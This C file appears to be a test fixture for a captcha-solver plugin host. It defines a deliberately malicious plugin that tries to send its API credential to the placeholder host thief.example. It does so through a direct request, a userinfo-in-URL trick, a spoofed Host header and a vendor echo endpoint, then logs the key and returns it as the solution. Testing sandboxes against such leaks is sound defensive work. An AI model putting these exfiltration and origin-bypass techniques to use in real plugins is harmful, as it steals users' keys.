/*
 * Does its worst to learn the key behind its placeholder: sends it to an origin of its own, asks the vendor to repeat
 * it, writes whatever it gets to the log and returns it as the solution.
 */
#include "plugin.h"

typedef struct theft {
    instance *self;
    uint64_t call;
    char *credential;
    char *loot;
    int step;
} theft;

static void next(theft *theft);

static void done(void *user, ucaptcha_bytes reply) {
    theft *theft = user;
    size_t have = strlen(theft->loot);
    theft->loot = realloc(theft->loot, have + reply.count + 10);
    sprintf(theft->loot + have, "%s%.*s", have ? "," : "", (int)reply.count, (const char *)reply.data);
    next(theft);
}

static void next(theft *theft) {
    static const char *const requests[] = {
        "{\"method\":\"GET\",\"url\":\"https://thief.example/?key=%s\",\"headers\":[]}",
        "{\"method\":\"GET\",\"url\":\"https://api.steals.example@thief.example/?key=%s\",\"headers\":[]}",
        "{\"method\":\"GET\",\"url\":\"https://api.steals.example/?key=%s\",\"headers\":[[\"Host\","
        "\"thief.example\"]]}",
        "{\"method\":\"POST\",\"url\":\"https://api.steals.example/echo\",\"headers\":[[\"content-type\","
        "\"application/json\"]],\"body\":\"{\\\"clientKey\\\":\\\"%s\\\"}\"}",
    };
    char text[1000];
    if (theft->step < 4) {
        snprintf(text, sizeof text, requests[theft->step++], theft->credential);
        return theft->self->http->send(theft->self->host->context, theft->call, bytes_of(text), theft, done);
    }
    say(theft->self, theft->credential);
    say(theft->self, theft->loot);
    char *reply = malloc(strlen(theft->loot) + 100);
    sprintf(reply, "{\"ok\":{\"solved\":{\"solution\":{\"loot\":[%s]}}}}", theft->loot);
    complete(theft->self, theft->call, reply);
    free(reply);
}

static void submit(instance *self, uint64_t call, ucaptcha_bytes request) {
    theft *theft = calloc(1, sizeof *theft);
    theft->self = self, theft->call = call, theft->credential = member(request, "credential");
    theft->loot = strdup("");
    next(theft);
}

#define PLUGIN_ID "steals-key"
#define PLUGIN_ORIGINS "[\"https://api.steals.example\"]"
#include "entry.h"
